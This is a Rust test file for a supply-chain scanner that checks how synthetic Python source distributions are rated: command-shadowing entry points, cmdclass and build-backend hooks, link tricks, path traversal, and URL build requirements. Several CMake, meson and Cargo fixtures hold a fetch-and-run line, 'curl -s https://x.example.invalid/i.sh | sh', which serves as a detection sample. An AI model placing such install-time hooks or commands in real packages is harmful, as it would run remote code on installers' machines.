//! What an sdist declares outside `setup.py`'s code that installs or runs something (tester
//! t14): console scripts in `setup.cfg` and `setup()` arguments, command classes named in
//! `setup.cfg`, link members that extraction turns into code, and build requirements fetched
//! from a URL. Each with a benign look-alike that stays below medium.

use airlock::analyse::BudgetLimits;
use airlock::finding::Severity;
use airlock::scan::{scan_file, FileReport};

/// A member of a test sdist: a regular file, a symbolic link or a hard link (to the target).
enum M<'a> {
    File(&'a str, &'a str),
    Symlink(&'a str, &'a str),
    Hardlink(&'a str, &'a str),
}

const PKG_INFO: &str = "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n";

/// A gzipped tar of `members`, each under `x-1.0/`, after a `PKG-INFO`.
fn sdist(members: &[M<'_>]) -> Vec<u8> {
    let mut t = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    let mut all = vec![M::File("PKG-INFO", PKG_INFO)];
    all.extend(members.iter().map(|m| match m {
        M::File(a, b) => M::File(a, b),
        M::Symlink(a, b) => M::Symlink(a, b),
        M::Hardlink(a, b) => M::Hardlink(a, b),
    }));
    for m in &all {
        let mut h = tar::Header::new_gnu();
        h.set_mode(0o644);
        match m {
            M::File(name, text) => {
                h.set_size(text.len() as u64);
                // Written raw: the tar crate refuses `..` in a name it is given.
                let full = format!("x-1.0/{name}");
                h.as_old_mut().name[..full.len()].copy_from_slice(full.as_bytes());
                h.set_cksum();
                t.append(&h, text.as_bytes()).expect("append");
            }
            M::Symlink(name, target) | M::Hardlink(name, target) => {
                h.set_entry_type(if matches!(m, M::Symlink(..)) {
                    tar::EntryType::Symlink
                } else {
                    tar::EntryType::Link
                });
                h.set_size(0);
                t.append_link(&mut h, format!("x-1.0/{name}"), target)
                    .expect("link");
            }
        }
    }
    t.into_inner().expect("tar").finish().expect("gzip")
}

fn scan(data: &[u8]) -> FileReport {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("x-1.0.tar.gz");
    std::fs::write(&p, data).expect("write");
    scan_file(&p, BudgetLimits::default())
}

/// The worst severity of `rule` in the scan of `data`.
fn worst(data: &[u8], rule: &str) -> Option<Severity> {
    scan(data)
        .findings
        .iter()
        .filter(|f| f.rule.id == rule)
        .map(|f| f.severity)
        .max()
}

/// The worst severity of any finding.
fn worst_any(data: &[u8]) -> Option<Severity> {
    scan(data).findings.iter().map(|f| f.severity).max()
}

const SETUP: &str = "from setuptools import setup\nsetup()\n";
const CLI: &str = "def main():\n    print('hello')\n";

/// Console scripts declared in `setup.cfg` (`[options.entry_points]`) and in `setup()`
/// (`entry_points=` as a dict or INI text, `scripts=`) are commands in `bin` as a wheel's
/// `entry_points.txt` ones are (t14 ep10, ep11, ep12).
#[test]
fn sdist_console_scripts_that_shadow_a_command_are_high() {
    let cfg = |cmd: &str| {
        format!("[metadata]\nname = x\nversion = 1.0\n[options.entry_points]\nconsole_scripts =\n    {cmd} = x.cli:main\ngui_scripts =\n    x-gui = x.cli:main\n")
    };
    let shadow = sdist(&[
        M::File("setup.cfg", &cfg("sudo")),
        M::File("setup.py", SETUP),
        M::File("x/cli.py", CLI),
    ]);
    assert_eq!(
        worst(&shadow, "entry-point-shadows-command"),
        Some(Severity::High)
    );
    let own = sdist(&[
        M::File("setup.cfg", &cfg("mytool")),
        M::File("setup.py", SETUP),
        M::File("x/cli.py", CLI),
    ]);
    assert_eq!(worst(&own, "entry-point-shadows-command"), None);
    assert!(worst_any(&own) < Some(Severity::Medium));

    for (setup, bad) in [
        (
            "setup(name='x', entry_points={'console_scripts': ['git=x.cli:main']})",
            true,
        ),
        (
            "setup(name='x', entry_points={'gui_scripts': ['ssh = x.cli:main']})",
            true,
        ),
        (
            "setup(name='x', entry_points='''\n[console_scripts]\ncurl = x.cli:main\n''')",
            true,
        ),
        (
            "EP = ['ls=x.cli:main']\nsetup(name='x', entry_points={'console_scripts': EP})",
            true,
        ),
        ("setup(name='x', scripts=['bin/curl'])", true),
        (
            "setup(name='x', entry_points={'console_scripts': ['x-cli=x.cli:main']})",
            false,
        ),
        // Another group is not a command.
        (
            "setup(name='x', entry_points={'pytest11': ['git = x.plugin']})",
            false,
        ),
        ("setup(name='x', scripts=['bin/x-tool'])", false),
        // pip's own `pip` command.
        (
            "setup(name='pip', entry_points={'console_scripts': ['pip=pip._internal:main']})",
            false,
        ),
    ] {
        let src = format!("from setuptools import setup\n{setup}\n");
        let data = sdist(&[M::File("setup.py", &src), M::File("x/cli.py", CLI)]);
        let got = worst(&data, "entry-point-shadows-command");
        assert_eq!(got, bad.then_some(Severity::High), "{setup}");
        if !bad {
            assert!(worst_any(&data) < Some(Severity::Medium), "{setup}");
        }
    }
}

/// `[options] cmdclass` in `setup.cfg` names modules setuptools imports and whose command
/// classes it runs while it builds and installs, as `[tool.setuptools.cmdclass]` does (t14
/// bd17); also when the module comes before `setup.cfg` in the archive.
#[test]
fn a_cmdclass_module_named_in_setup_cfg_runs_at_install() {
    let cfg = "[metadata]\nname = x\nversion = 1.0\n[options]\ncmdclass =\n    install = x_build.Install\n";
    let module = "import subprocess\nfrom setuptools.command.install import install\nclass Install(install):\n    def run(self):\n        subprocess.run('echo airlock-test', shell=True)\n        install.run(self)\n";
    for members in [
        vec![
            M::File("setup.cfg", cfg),
            M::File("setup.py", SETUP),
            M::File("x_build.py", module),
        ],
        vec![
            M::File("x_build.py", module),
            M::File("setup.py", SETUP),
            M::File("setup.cfg", cfg),
        ],
    ] {
        assert_eq!(
            worst(&sdist(&members), "python-shell-command"),
            Some(Severity::High)
        );
    }
    // The same module no cmdclass names is an ordinary module.
    let plain = sdist(&[
        M::File("setup.cfg", "[metadata]\nname = x\nversion = 1.0\n"),
        M::File("setup.py", SETUP),
        M::File("x_build.py", module),
    ]);
    assert_eq!(worst(&plain, "python-shell-command"), Some(Severity::Low));
}

const PAYLOAD: &str = "import os\nos.system('echo airlock-test')\n";

/// A link member Python would run is judged by what extraction makes it: the target's content
/// under the link's name (t14 ta03, ta04, ta06).
#[test]
fn links_to_code_are_judged_by_their_target() {
    let symlink = sdist(&[
        M::File("tools/helper.txt", PAYLOAD),
        M::Symlink("setup.py", "tools/helper.txt"),
    ]);
    assert_eq!(
        worst(&symlink, "python-shell-command"),
        Some(Severity::High)
    );
    let hardlink = sdist(&[
        M::File("docs/notes.txt", PAYLOAD),
        M::Hardlink("setup.py", "x-1.0/docs/notes.txt"),
    ]);
    assert_eq!(
        worst(&hardlink, "python-shell-command"),
        Some(Severity::High)
    );
    // A package's `__init__.py` pointing at a data file, through a chain of two links, the
    // target after the links.
    let init = sdist(&[
        M::File("setup.py", SETUP),
        M::Symlink("x/__init__.py", "impl.py"),
        M::Symlink("x/impl.py", "data.bin"),
        M::File("x/data.bin", PAYLOAD),
    ]);
    assert_eq!(worst(&init, "python-shell-command"), Some(Severity::High));
    // Benign look-alikes: a README link, a LICENSE link to the parent folder (inside), a
    // module link to an ordinary module.
    let benign = sdist(&[
        M::File("setup.py", SETUP),
        M::File("docs/README.md", "# x\n"),
        M::File("LICENSE", "MIT\n"),
        M::Symlink("README.md", "docs/README.md"),
        M::Symlink("x/LICENSE", "../LICENSE"),
        M::File("x/real.py", CLI),
        M::Symlink("x/alias.py", "real.py"),
    ]);
    assert!(worst_any(&benign) < Some(Severity::Medium));
    assert_eq!(worst(&benign, "archive-path-traversal"), None);
    // A link that leaves the folder is still traversal.
    let out = sdist(&[
        M::File("setup.py", SETUP),
        M::Symlink("x/data", "../../../etc/passwd"),
    ]);
    assert_eq!(
        worst(&out, "archive-path-traversal"),
        Some(Severity::Medium)
    );
}

/// `x-1.0/docs/../setup.py` is extracted as `x-1.0/setup.py`: inside the folder, so no
/// traversal (t14 report 2.5), and still analysed as `setup.py`.
#[test]
fn dot_segments_that_stay_inside_are_not_traversal() {
    let data = sdist(&[M::File("docs/../setup.py", PAYLOAD)]);
    assert_eq!(worst(&data, "archive-path-traversal"), None);
    assert_eq!(worst(&data, "python-shell-command"), Some(Severity::High));
    let out = sdist(&[M::File("../../setup.py", SETUP)]);
    assert_eq!(
        worst(&out, "archive-path-traversal"),
        Some(Severity::Medium)
    );
}

/// Build requirements fetched from a URL run their code on the building machine
/// (t14 bd07, bd08, bd15): medium, low with a hash in the URL; names from the index and local
/// `file:` URLs are not reported.
#[test]
fn build_requirements_from_urls_are_medium() {
    let pyproject = |req: &str| {
        format!("[build-system]\nrequires = [\"setuptools\", \"{req}\"]\nbuild-backend = \"setuptools.build_meta\"\n[project]\nname = \"x\"\nversion = \"1.0\"\n")
    };
    for (req, want) in [
        (
            "helper @ https://c.example.invalid/helper-0.1.tar.gz",
            Some(Severity::Medium),
        ),
        (
            "helper @ http://c.example.invalid/helper-0.1.tar.gz",
            Some(Severity::Medium),
        ),
        (
            "helper @ git+https://git.example.invalid/helper.git@v1",
            Some(Severity::Medium),
        ),
        (
            "helper @ https://c.example.invalid/helper-0.1.tar.gz#sha256=00ff",
            Some(Severity::Low),
        ),
        ("helper @ file:///opt/helper", None),
        ("wheel>=0.40; python_version >= '3.8'", None),
        ("cython>=3", None),
    ] {
        let data = sdist(&[M::File("pyproject.toml", &pyproject(req))]);
        assert_eq!(worst(&data, "requirements-extra-index"), want, "{req}");
    }
    let setup = "from setuptools import setup\nsetup(name='x', setup_requires=['helper @ https://c.example.invalid/helper.tar.gz'])\n";
    let data = sdist(&[M::File("setup.py", setup)]);
    assert_eq!(
        worst(&data, "requirements-extra-index"),
        Some(Severity::Medium)
    );
    let benign =
        "from setuptools import setup\nsetup(name='x', setup_requires=['setuptools_scm>=8'])\n";
    let data = sdist(&[M::File("setup.py", benign)]);
    assert_eq!(worst(&data, "requirements-extra-index"), None);
    assert!(worst_any(&data) < Some(Severity::Medium));
    let cfg = "[metadata]\nname = x\n[options]\nsetup_requires =\n    setuptools_scm\n    helper @ https://c.example.invalid/helper.tar.gz\n";
    let data = sdist(&[M::File("setup.cfg", cfg), M::File("setup.py", SETUP)]);
    assert_eq!(
        worst(&data, "requirements-extra-index"),
        Some(Severity::Medium)
    );
}

#[test]
fn in_tree_backend_hooks_are_followed_however_the_backend_exposes_them() {
    let pyproject = |backend: &str| {
        format!("[build-system]\nrequires = []\nbuild-backend = \"{backend}\"\nbackend-path = [\"_b\"]\n")
    };
    let cases: Vec<(String, &str)> = vec![
        // A module `__getattr__` answers every hook name.
        (
            pyproject("hooks"),
            "import os\nfrom setuptools import build_meta as _orig\ndef __getattr__(name):\n    os.system('echo airlock')\n    return getattr(_orig, name)\n",
        ),
        // A bound method of an instance.
        (
            pyproject("hooks"),
            "import os\nclass _B:\n    def build_wheel(self, wd, config_settings=None, metadata_directory=None):\n        os.system('echo airlock')\n_b = _B()\nbuild_wheel = _b.build_wheel\n",
        ),
        // An object reference: `hooks:api`.
        (
            pyproject("hooks:api"),
            "import os\nclass _Api:\n    def build_wheel(self, wd, config_settings=None, metadata_directory=None):\n        os.system('echo airlock')\napi = _Api()\n",
        ),
    ];
    for (pp, hooks) in &cases {
        let data = sdist(&[M::File("pyproject.toml", pp), M::File("_b/hooks.py", hooks)]);
        assert_eq!(
            worst(&data, "python-shell-command"),
            Some(Severity::High),
            "{pp}\n{hooks}"
        );
    }
    // A hatchling custom hook at a configured path.
    let pp = "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n[tool.hatch.build.hooks.custom]\npath = 'tools/build_support.py'\n";
    let hook = "import os\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass H(BuildHookInterface):\n    def initialize(self, version, build_data):\n        os.system('echo airlock')\n";
    let data = sdist(&[
        M::File("pyproject.toml", pp),
        M::File("tools/build_support.py", hook),
    ]);
    assert_eq!(worst(&data, "python-shell-command"), Some(Severity::High));
    // The same hook file that writes a version file stays below medium.
    let benign = "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass H(BuildHookInterface):\n    def initialize(self, version, build_data):\n        open('src/x/_version.py', 'w').write('__version__ = \"1.0\"\\n')\n";
    let data = sdist(&[
        M::File("pyproject.toml", pp),
        M::File("tools/build_support.py", benign),
    ]);
    assert!(scan(&data).worst().is_none_or(|w| w < Severity::Medium));
}

/// A backend that re-exports its hooks from a module beside it (`from _impl import *`, `from
/// _impl import build_wheel`, an alias) runs that module's hooks at build time (tester t18
/// bk02); re-exporting setuptools' own backend stays below medium.
#[test]
fn in_tree_backend_hooks_reexported_from_a_sibling_module_are_followed() {
    let pp = "[build-system]\nrequires = []\nbuild-backend = \"hooks\"\nbackend-path = [\"_b\"]\n";
    let imp = "import os\ndef build_wheel(wd, config_settings=None, metadata_directory=None):\n    os.system('echo airlock')\n    return 'x.whl'\ndef _bw(wd, config_settings=None, metadata_directory=None):\n    os.system('echo airlock')\n";
    for hooks in [
        "from _impl import *\n",
        "from _impl import build_wheel, build_sdist\n",
        "from _impl import _bw as build_wheel\n",
    ] {
        let data = sdist(&[
            M::File("pyproject.toml", pp),
            M::File("_b/hooks.py", hooks),
            M::File("_b/_impl.py", imp),
        ]);
        assert_eq!(
            worst(&data, "python-shell-command"),
            Some(Severity::High),
            "{hooks}"
        );
    }
    // Only imported, the module's functions are not hooks: `_bw` stays inside a function.
    let data = sdist(&[
        M::File("pyproject.toml", pp),
        M::File("_b/hooks.py", "from _impl import build_sdist\nfrom setuptools.build_meta import build_wheel\n"),
        M::File("_b/_impl.py", "import os\ndef build_sdist(sd, config_settings=None):\n    return 'x.tar.gz'\ndef _bw():\n    os.system('echo airlock')\n"),
    ]);
    assert_eq!(worst(&data, "python-shell-command"), Some(Severity::Low));
    let data = sdist(&[
        M::File("pyproject.toml", pp),
        M::File("_b/hooks.py", "from setuptools.build_meta import *\nfrom setuptools import build_meta as _orig\n\ndef get_requires_for_build_wheel(config_settings=None):\n    return _orig.get_requires_for_build_wheel(config_settings) + ['cython']\n"),
    ]);
    assert!(worst_any(&data) < Some(Severity::Medium));
}

/// Cython sources are Python with C declarations: a `.pyx` module's top level runs when the
/// compiled extension is imported (tester t18 sd01); the ordinary shape stays below medium.
/// (A C extension's constructor is a byte-pattern rule: tests/yara.rs.)
#[test]
fn cython_and_c_extension_sources_are_read_for_load_time_code() {
    let setup = "from setuptools import setup\nfrom Cython.Build import cythonize\nsetup(ext_modules=cythonize('x/_core.pyx'))\n";
    let pyx = |top: &str| {
        format!("# cython: language_level=3\nimport os\ncimport numpy as cnp\n{top}\ncdef int add(int a, int b) nogil:\n    return a + b\n\ndef py_add(a, b):\n    return add(a, b)\n")
    };
    let bad = sdist(&[
        M::File("setup.py", setup),
        M::File("x/__init__.py", "from ._core import py_add\n"),
        M::File("x/_core.pyx", &pyx("os.system('echo airlock')")),
    ]);
    assert_eq!(worst(&bad, "python-shell-command"), Some(Severity::High));
    let good = sdist(&[
        M::File("setup.py", setup),
        M::File("x/__init__.py", "from ._core import py_add\n"),
        M::File("x/_core.pyx", &pyx("cnp.import_array()\nDEF N = 4")),
    ]);
    assert!(worst_any(&good).is_none_or(|s| s < Severity::Medium));
}

/// The commands of the build files an sdist's build runs (CMake's `execute_process`, meson's
/// `run_command`, Cargo's `build.rs`) are install-time code (tester t14 bd09-bd11, t21
/// maturinpkg); the commands real projects run there (`git describe`, the interpreter asked
/// for a path, a compiler) stay below medium.
#[test]
fn build_file_commands_run_at_install() {
    let pyproject = "[build-system]\nrequires = [\"scikit-build-core\"]\nbuild-backend = \"scikit_build_core.build\"\n";
    for (name, text) in [
        ("CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\nproject(x)\nexecute_process(COMMAND sh -c \"curl -s https://x.example.invalid/i.sh | sh\")\n"),
        ("meson.build", "project('x', 'c')\nrun_command('sh', '-c', 'curl -s https://x.example.invalid/i.sh | sh', check: false)\n"),
        ("build.rs", "fn main() {\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://x.example.invalid/i.sh | sh\").status().unwrap();\n}\n"),
    ] {
        let data = sdist(&[M::File("pyproject.toml", pyproject), M::File(name, text)]);
        assert_eq!(
            worst(&data, "python-shell-command"),
            Some(Severity::High),
            "{name}"
        );
    }
    for (name, text) in [
        ("CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\nproject(x)\nexecute_process(COMMAND \"${Python_EXECUTABLE}\" -c \"import pybind11; print(pybind11.get_cmake_dir())\" OUTPUT_VARIABLE d OUTPUT_STRIP_TRAILING_WHITESPACE)\nexecute_process(COMMAND git describe --tags WORKING_DIRECTORY ${CMAKE_SOURCE_DIR} OUTPUT_VARIABLE v)\nadd_custom_command(OUTPUT gen.c COMMAND ${Python_EXECUTABLE} ${CMAKE_SOURCE_DIR}/gen.py gen.c DEPENDS gen.py)\n"),
        // PyTorch's ROCm probe: a local program piped into `bash -c` (a pipeline, not a download).
        ("x.cmake", "execute_process(COMMAND \"rocm_agent_enumerator\" COMMAND bash \"-c\" \"grep -v gfx000 | sort -u | xargs | tr -d '\\n'\"\n  RESULT_VARIABLE r OUTPUT_VARIABLE a)\n"),
        ("meson.build", "project('x', 'c')\nversion = run_command('git', 'describe', '--tags', check: false).stdout().strip()\npy = import('python').find_installation()\ncustom_target('gen', output: 'gen.c', command: [py, files('gen.py'), '@OUTPUT@'])\n"),
        ("build.rs", "fn main() {\n    let out = std::process::Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output().unwrap();\n    println!(\"cargo:rustc-env=GIT_HASH={}\", String::from_utf8_lossy(&out.stdout));\n}\n"),
    ] {
        let data = sdist(&[M::File("pyproject.toml", pyproject), M::File(name, text)]);
        assert!(
            worst_any(&data).is_none_or(|s| s < Severity::Medium),
            "{name}: {:?}",
            scan(&data)
                .findings
                .iter()
                .map(|f| (f.rule.id, f.severity, f.evidence.clone()))
                .collect::<Vec<_>>()
        );
    }
}

/// The members of a test sdist after the maturin `pyproject.toml`.
fn maturin(members: &[M<'_>]) -> Vec<u8> {
    let pyproject =
        "[build-system]\nrequires = [\"maturin>=1.5,<2.0\"]\nbuild-backend = \"maturin\"\n";
    let mut all = vec![M::File("pyproject.toml", pyproject)];
    all.extend(members.iter().map(|m| match m {
        M::File(a, b) => M::File(a, b),
        M::Symlink(a, b) => M::Symlink(a, b),
        M::Hardlink(a, b) => M::Hardlink(a, b),
    }));
    sdist(&all)
}

/// (rule, severity) of every finding of a folder scan of `members` (files only).
fn scan_folder(members: &[M<'_>]) -> Vec<(&'static str, Severity)> {
    let dir = tempfile::tempdir().expect("tempdir");
    for m in members {
        if let M::File(name, text) = m {
            let p = dir.path().join("x-1.0").join(name);
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::fs::write(&p, text).expect("write");
        }
    }
    let opts = airlock::scan::ScanOptions {
        paths: vec![dir.path().to_path_buf()],
        exclude: Vec::new(),
        jobs: 1,
        limits: BudgetLimits::default(),
        yara: None,
    };
    let report = airlock::scan::scan(&opts, &|_, _| {}).expect("scan");
    report
        .files
        .iter()
        .flat_map(|f| f.findings.iter().map(|g| (g.rule.id, g.severity)))
        .collect()
}

/// Code Cargo compiles into a build script although it is not a `build.rs` beside the manifest
/// (tester t22 r09, r12, r13): a custom `build = PATH`, a file pulled in by `include_str!` or
/// `include!`, and the library of a path build-dependency the build script calls. Real
/// maturin crates (`build = "build.rs"`, `pyo3-build-config`, `cc`, `git rev-parse` in an
/// included file) stay below medium.
#[test]
fn cargo_build_script_sources_beyond_build_rs_run_at_install() {
    let run = "use std::process::Command;\npub fn prepare() { let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://x.example.invalid/i.sh | sh\").status(); }\n";
    let cases: &[(&str, &[M<'_>])] = &[
        (
            "custom build path",
            &[
                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\nbuild = \"tools/gen.rs\"\n"),
                M::File("tools/gen.rs", run),
            ],
        ),
        (
            "include_str",
            &[
                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\n"),
                M::File("build.rs", "use std::process::Command;\nfn main() { let _ = Command::new(\"sh\").arg(\"-c\").arg(include_str!(\"payload.txt\")).status(); }\n"),
                M::File("payload.txt", "curl -s https://x.example.invalid/i.sh | sh"),
            ],
        ),
        (
            // The included file after the script, in another folder, reached with `..`.
            "include",
            &[
                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\nbuild = \"build/build.rs\"\n"),
                M::File("build/build.rs", "include!(\"../tools/steps.rs\");\nfn main() { prepare(); }\n"),
                M::File("tools/steps.rs", run),
            ],
        ),
        (
            "path build-dependency",
            &[
                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\n[build-dependencies]\nhelper = { path = \"helper\" }\n"),
                M::File("build.rs", "fn main() { helper::prepare(); }\n"),
                M::File("helper/Cargo.toml", "[package]\nname = \"helper\"\nversion = \"0.1.0\"\n"),
                M::File("helper/src/lib.rs", run),
            ],
        ),
    ];
    for (case, members) in cases {
        // The same package unpacked in a folder (the check stage reads it).
        let tree = scan_folder(members);
        assert_eq!(
            tree.iter()
                .filter(|(rule, _)| *rule == "python-shell-command")
                .map(|(_, s)| *s)
                .max(),
            Some(Severity::High),
            "{case} (folder): {tree:?}"
        );
        let r = scan(&maturin(members));
        let worst = r
            .findings
            .iter()
            .filter(|f| f.rule.id == "python-shell-command")
            .map(|f| f.severity)
            .max();
        assert_eq!(worst, Some(Severity::High), "{case}: {:?}", r.findings);
        // The include's first reading (`sh -c payload.txt`) is replaced, not kept beside.
        assert!(
            !r.findings
                .iter()
                .any(|f| f.evidence.contains("'payload.txt'")),
            "{case}: {:?}",
            r.findings
        );
    }
    let benign: &[(&str, &[M<'_>])] = &[
        (
            "pyo3 crate",
            &[
                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\nbuild = \"build.rs\"\n[build-dependencies]\npyo3-build-config = \"0.22\"\ncc = \"1\"\nversion_check = { path = \"vendor/version_check\" }\n"),
                M::File("build.rs", "fn main() {\n    pyo3_build_config::use_pyo3_cfgs();\n    cc::Build::new().file(\"src/fast.c\").compile(\"fast\");\n}\n"),
                M::File("vendor/version_check/src/lib.rs", "use std::process::Command;\npub fn rustc() -> Option<String> { let o = Command::new(\"rustc\").arg(\"--version\").output().ok()?; String::from_utf8(o.stdout).ok() }\n"),
            ],
        ),
        (
            "included git step",
            &[
                M::File("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\nbuild = \"tools/build.rs\"\n"),
                M::File("tools/build.rs", "include!(\"git.rs\");\nfn main() { println!(\"cargo:rustc-env=V={}\", include_str!(\"../VERSION\").trim()); git(); }\n"),
                M::File("tools/git.rs", "fn git() { let _ = std::process::Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output(); }\n"),
                M::File("VERSION", "1.0.0\n"),
            ],
        ),
    ];
    for (case, members) in benign {
        let tree = scan_folder(members);
        assert!(
            tree.iter().all(|(_, s)| *s < Severity::Medium),
            "{case} (folder): {tree:?}"
        );
        let r = scan(&maturin(members));
        assert!(
            r.findings.iter().all(|f| f.severity < Severity::Medium),
            "{case}: {:?}",
            r.findings
                .iter()
                .map(|f| (f.rule.id, f.severity, f.evidence.clone()))
                .collect::<Vec<_>>()
        );
    }
}
